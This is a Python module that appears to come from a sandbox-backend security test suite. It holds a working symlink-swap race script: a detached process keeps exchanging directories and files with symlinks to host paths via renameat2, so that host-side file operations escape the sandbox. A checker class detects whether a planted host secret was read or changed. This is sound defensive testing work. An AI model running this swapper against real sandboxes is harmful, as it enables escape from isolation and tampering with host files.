"""A sandbox that swaps its own directory with a symlink to a host directory, over and
over, while the backend works on its files (file API calls, snapshots).

Host-side code that resolves a path the sandbox controls by name, as itself, sooner or
later follows the symlink out of the sandbox: it reads the host file behind it (a planted
secret) or writes into the host directory. ``Swap`` knows what the sandbox may be asked
for and what on the host must stay as it was.
"""

from __future__ import annotations

import os
import uuid
from dataclasses import dataclass, field
from pathlib import Path

# Run with the attacks' PYTHON_PRELUDE (``nr``, ``syscall``). Makes, under ``base``:
# d/ (a directory holding a decoy ``name``) and l (a symlink to the host directory);
# g (a decoy file) and f (a symlink to the host's ``name``). A detached process then
# exchanges d <-> l and f <-> g (renameat2 RENAME_EXCHANGE: atomic, so each name is
# always one or the other) until the sandbox ends.
SWAPPER = """\
base, host_dir, name = {base!r}, {host_dir!r}, {name!r}
RENAMEAT2, AT_FDCWD, RENAME_EXCHANGE = nr(316, 276), -100, 2

def exchange(a, b):
    return syscall(RENAMEAT2, AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE)

os.makedirs(base + "/d")
with open(base + "/d/" + name, "w") as f:
    f.write("decoy")
with open(base + "/g", "w") as f:
    f.write("decoy")
os.symlink(host_dir, base + "/l")
os.symlink(host_dir + "/" + name, base + "/f")
for _ in range(2):
    r, e = exchange(base + "/d", base + "/l")
    if r != 0:
        print("renameat2(RENAME_EXCHANGE):", os.strerror(e))
        sys.exit(77)
if os.fork():
    print("swapping", flush=True)
    os._exit(0)
os.setsid()
null = os.open("/dev/null", os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(null, fd)
pairs = [(base + "/d", base + "/l"), (base + "/f", base + "/g")]
while True:
    for a, b in pairs:
        exchange(a, b)
"""


@dataclass
class Swap:
    """One swap loop: ``base`` inside the sandbox, the planted host file it points at."""

    base: str
    host_file: Path
    secret: bytes
    written: str = field(default_factory=lambda: f"rbx-written-{uuid.uuid4().hex}")
    before: tuple[bytes, int, int, int] = field(init=False)

    def __post_init__(self) -> None:
        self.before = self._host_file_state()

    def script(self) -> str:
        return SWAPPER.format(base=self.base, host_dir=str(self.host_file.parent),
                              name=self.host_file.name)

    @property
    def reads(self) -> list[str]:
        """Paths that are, at any moment, a decoy in the sandbox or the host's secret."""
        name = self.host_file.name
        return [f"{self.base}/d/{name}", f"{self.base}/l/{name}", f"{self.base}/f",
                f"{self.base}/g"]

    @property
    def writes(self) -> list[str]:
        """Paths that are, at any moment, in the sandbox or in (or at) the host's files."""
        return [f"{self.base}/d/{self.written}", f"{self.base}/l/{self.written}",
                f"{self.base}/f"]

    def host_problems(self) -> list[str]:
        """What changed on the host: the secret file, or a file written next to it."""
        problems = []
        if self._host_file_state() != self.before:
            problems.append(f"the host file {self.host_file} was changed")
        if os.path.lexists(self.host_file.parent / self.written):
            problems.append(f"a file was written on the host: {self.host_file.parent}/"
                            f"{self.written}")
        return problems

    def clean_host(self) -> None:
        """Remove what a failing backend wrote on the host."""
        (self.host_file.parent / self.written).unlink(missing_ok=True)

    def _host_file_state(self) -> tuple[bytes, int, int, int]:
        try:
            st = self.host_file.lstat()
            return self.host_file.read_bytes(), st.st_mode, st.st_uid, st.st_mtime_ns
        except OSError:
            return b"", 0, 0, 0
